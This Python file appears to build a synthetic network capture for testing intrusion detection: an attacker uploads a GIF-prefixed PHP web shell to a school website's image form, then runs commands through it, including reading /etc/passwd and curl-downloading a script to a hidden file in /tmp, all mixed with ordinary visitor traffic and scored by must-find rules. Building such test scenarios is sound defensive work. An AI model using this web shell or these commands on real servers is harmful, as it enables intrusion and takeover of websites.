"""Upload a web shell to the school's website and give commands through it."""

from __future__ import annotations

from pcaps.scenarios.scenario import Scenario, inside, outside
from pcaps.wire import http
from pcaps.wire.capture import Capture
from pcaps.wire.tcp import CLIENT, Connection, Pace

ATTACKER = outside("203.0.113.99", ttl=46)
VISITORS = tuple(outside(f"198.51.100.{last}") for last in (21, 34, 35, 57))
SITE = inside("192.168.30.20")
HOST = "www.shiyan-school.example"
SHELL = "/uploads/202611/logo.php"
AGENT = "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:52.0) Gecko/20100101 Firefox/52.0"
COMMANDS = (
    ("whoami", "www-data\n"),
    ("id", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"),
    ("uname -a", "Linux web01 6.1.0-26-amd64 #1 SMP Debian x86_64 GNU/Linux\n"),
    ("cat /etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"),
    ("ls -la /var/www/html", "total 48\ndrwxr-xr-x 9 www-data www-data 4096 Nov 16 02:11 .\n"),
    ("netstat -antp", "tcp 0 0 0.0.0.0:80 0.0.0.0:* LISTEN -\ntcp 0 0 127.0.0.1:3306 0.0.0.0:* LISTEN -\n"),
    ("curl http://198.51.100.88/x.sh -o /tmp/.x", ""),
    ("chmod +x /tmp/.x", ""),
)  # fmt: skip


def _upload(connection: Connection) -> None:
    """Post an image form whose file is a one-line PHP shell with a picture's first bytes."""
    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    shell = b"GIF89a<?php @eval($_POST['pass']); echo shell_exec($_REQUEST['cmd']); ?>"
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="logo.php"\r\n'
        "Content-Type: image/gif\r\n\r\n"
    ).encode()
    body += shell + f"\r\n--{boundary}--\r\n".encode()
    headers = {
        "Content-Type": f"multipart/form-data; boundary={boundary}",
        "Referer": f"http://{HOST}/admin/upload.html",
    }
    asked = http.request("POST", "/admin/upload.php", HOST, headers=headers, body=body, agent=AGENT)
    answer = b'{"code":0,"url":"/uploads/202611/logo.php"}'
    http.fetch(connection, asked, http.response(200, answer, kind="application/json"))


def build(capture: Capture) -> None:
    """Build visits of ordinary readers around the upload and eight commands, by GET and by POST."""
    attack = Connection(capture, (ATTACKER, SITE), 80, capture.at(120), pace=Pace(70_000)).open()
    first = http.request("GET", "/admin/upload.html", HOST, agent=AGENT)
    http.fetch(attack, first, http.response(200, http.page("上传图片")))
    _upload(attack)
    attack.close(CLIENT)
    for number, (command, output) in enumerate(COMMANDS):
        moment = capture.at(140 + number * 11 + capture.rng.random() * 5)
        order = Connection(capture, (ATTACKER, SITE), 80, moment, pace=Pace(70_000)).open()
        written = command.replace(" ", "+" if number % 2 else "%20").replace("/", "%2F")
        if number % 3:
            asked = http.request("GET", f"{SHELL}?cmd={written}", HOST, agent=AGENT)
        else:
            headers = {"Content-Type": "application/x-www-form-urlencoded"}
            body = f"pass=system%28%27{written}%27%29%3B".encode()
            asked = http.request(
                "POST", f"{SHELL}?cmd={written}", HOST, headers=headers, body=body, agent=AGENT
            )
        http.fetch(order, asked, http.response(200, b"GIF89a" + output.encode()))
        order.close(CLIENT)
    for number in range(40):
        _read_page(capture, number)


def _read_page(capture: Capture, number: int) -> None:
    reader = VISITORS[number % len(VISITORS)]
    moment = capture.at(number * 9 + capture.rng.random() * 6)
    visit = Connection(capture, (reader, SITE), 80, moment, pace=Pace(30_000)).open()
    page = http.page("实验学校", f"校园新闻 第 {number} 期：" + "校园文化节开幕。" * 30)
    http.fetch(visit, http.request("GET", f"/news/{number}.html", HOST), http.response(200, page))
    picture = http.request("GET", f"/uploads/202611/photo{number}.jpg", HOST)
    size = capture.rng.randrange(20_000, 90_000)
    head = http.response(200, b"\xff\xd8\xff\xe0\0\x10JFIF\0", kind="image/jpeg", length=size + 11)
    http.fetch(visit, picture, head, more=size)
    visit.close(CLIENT)


SCENARIO = Scenario(
    name="webshell",
    ending=".pcapng",
    hour=10.2,
    zh="学校网站被上传网页木马并执行命令",
    en="A web shell is uploaded to the school's website and used",
    build=build,
    addresses={
        "203.0.113.99": ("外网攻击地址", "the attacker outside"),
        "192.168.30.20": ("学校网站服务器", "the website's server"),
        "198.51.100.21": ("普通访客", "a visitor"),
    },
    must_find=(("webshell", "192.168.30.20", "high"),),
    must_not=tuple({"min_severity": "high", "entity": reader.ip} for reader in VISITORS),
)
